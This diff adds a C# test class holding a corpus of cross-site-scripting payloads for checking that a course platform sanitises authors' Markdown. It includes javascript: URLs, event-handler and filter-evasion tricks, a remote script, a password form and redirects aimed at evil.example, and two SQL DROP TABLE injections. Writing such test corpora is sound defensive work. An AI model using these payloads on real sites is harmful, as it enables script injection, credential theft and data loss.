@@ -1,0 +1,50 @@
+namespace Lantern.Tests.Courses;
+
+/// <summary>Script and cross-site-scripting payloads an author's Markdown might carry, by mistake or on purpose.</summary>
+public static class XssCorpus
+{
+    public static IReadOnlyList<string> Payloads { get; } =
+    [
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "<img src=x onerror=alert(1)>",
+        "<img src=\"/learn/x.png\" onload=\"alert(1)\" alt=\"a\">",
+        "<svg onload=alert(1)><circle r=1></svg>",
+        "<svg><script>alert(1)</script></svg>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+        "<a href=\"javascript:alert(1)\">click</a>",
+        "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
+        "<a href=\"&#106;avascript:alert(1)\">click</a>",
+        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
+        "<a href=\"vbscript:msgbox(1)\">click</a>",
+        "[click](javascript:alert(1))",
+        "[click](javascript&#58;alert(1))",
+        "![a](javascript:alert(1))",
+        "<iframe src=\"https://evil.example\"></iframe>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+        "<object data=\"evil.swf\"></object>",
+        "<embed src=\"evil.swf\">",
+        "<form action=\"https://evil.example\"><input name=password><button>Go</button></form>",
+        "<div style=\"background:url(javascript:alert(1))\">x</div>",
+        "<style>body{display:none}</style>",
+        "<link rel=stylesheet href=https://evil.example/x.css>",
+        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+        "<base href=\"https://evil.example/\">",
+        "<details open ontoggle=alert(1)>x</details>",
+        "<body onload=alert(1)>",
+        "<p onclick=\"alert(1)\">x</p>",
+        "<video><source onerror=\"alert(1)\"></video>",
+        "<template><script>alert(1)</script></template>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+        "<a href=\"#\" onmouseover=\"alert(1)\">x</a>",
+        "\"><script>alert(1)</script>",
+        "<scr<script>ipt>alert(1)</script>",
+        "Text {onclick=alert(1)}",
+        "<input autofocus onfocus=alert(1)>",
+        "<button formaction=javascript:alert(1)>x</button>",
+        "<a href=\"https://example.org\" target=\"_blank\">new window</a>",
+        "' OR 1=1; DROP TABLE Courses; --",
+        "Robert'); DROP TABLE CourseVersions;--",
+        "日本語のテキスト and emoji 🙂 and right-to-left שלום",
+    ];
+}
